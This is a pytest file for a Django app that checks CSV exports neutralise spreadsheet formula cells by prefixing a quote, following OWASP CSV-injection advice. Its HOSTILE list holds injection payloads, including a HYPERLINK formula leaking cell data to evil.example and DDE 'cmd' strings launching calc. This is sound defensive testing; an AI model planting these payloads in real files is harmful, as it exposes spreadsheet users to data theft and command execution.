"""Every CSV the app writes is safe to open in a spreadsheet: a cell that starts with a formula
character (``=``, ``+``, ``-``, ``@``, tab, carriage return or line feed) is exported with a
leading ``'`` (OWASP's "CSV injection" advice), so Excel and LibreOffice show it as text instead
of running it. Scripts that want the raw text use the JSON."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from orgstructure.spreadsheet import spreadsheet_cell
from tests.factories import RoleFactory, TeamFactory, UserFactory, role_with_duties
from tests.trust.figures import record

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
HARMLESS = ["Plain text", "1. Write the PRD", "负责产品规划", "a=b", "x - y", "'quoted already"]


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _formula_like(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("text", HOSTILE)
def test_org_chart_csv_neutralises_formula_cells(text):
    # given a team, a role and a duty whose names start with a formula character (as a member's
    # accepted suggestion can make a duty text)
    team = TeamFactory(name=text, slug="hostile")
    child = TeamFactory(name="Child", slug="child", parent=team)
    role_with_duties(text, "Harmless duty", team=child, title=text, slug="hostile-role")
    RoleFactory(team=team, title="Empty role", slug="empty-role")
    client = Client()
    client.force_login(UserFactory())

    # when the org chart is exported as CSV
    rows = _rows(client.get("/api/v1/org-chart/?format=csv"))

    # then no cell starts with a formula character, and the text is all there after the quote
    header, *body = rows
    assert header == ["team_path", "team_slug", "role_slug", "role_title", "duty_position", "duty_text"]
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if _formula_like(cell)], body
    duty_text = text.strip()  # the duty-list service trims duty texts; titles are kept as given
    assert ["child", "hostile-role", "'" + text, "1", "'" + duty_text] == body[0][1:]
    assert body[0][0] == "'" + text + " / Child"
    assert body[1][-1] == "Harmless duty"
    # while the JSON keeps the raw text for scripts
    doc = client.get("/api/v1/org-chart/").json()
    assert doc["teams"][0]["name"] == text
    record("CSV cells checked for formulas", len(cells))


@pytest.mark.parametrize("value", [*HOSTILE, *HARMLESS, 1, -1, None, ""])
def test_the_one_helper(value):
    cell = spreadsheet_cell(value)
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert cell == "'" + value
    else:
        assert cell == value  # numbers (and everything else) are left as they are


def test_every_csv_the_app_writes_goes_through_the_one_helper():
    # A new export that calls csv.writer directly would write formula cells verbatim again.
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith(("tests/", ".venv/", "bench/")) or "/migrations/" in relative:
            continue
        if relative == "orgstructure/spreadsheet.py":
            continue
        if writers.search(path.read_text(encoding="utf-8")):
            offenders.append(relative)
    assert not offenders, f"CSV written without orgstructure.spreadsheet: {offenders}"
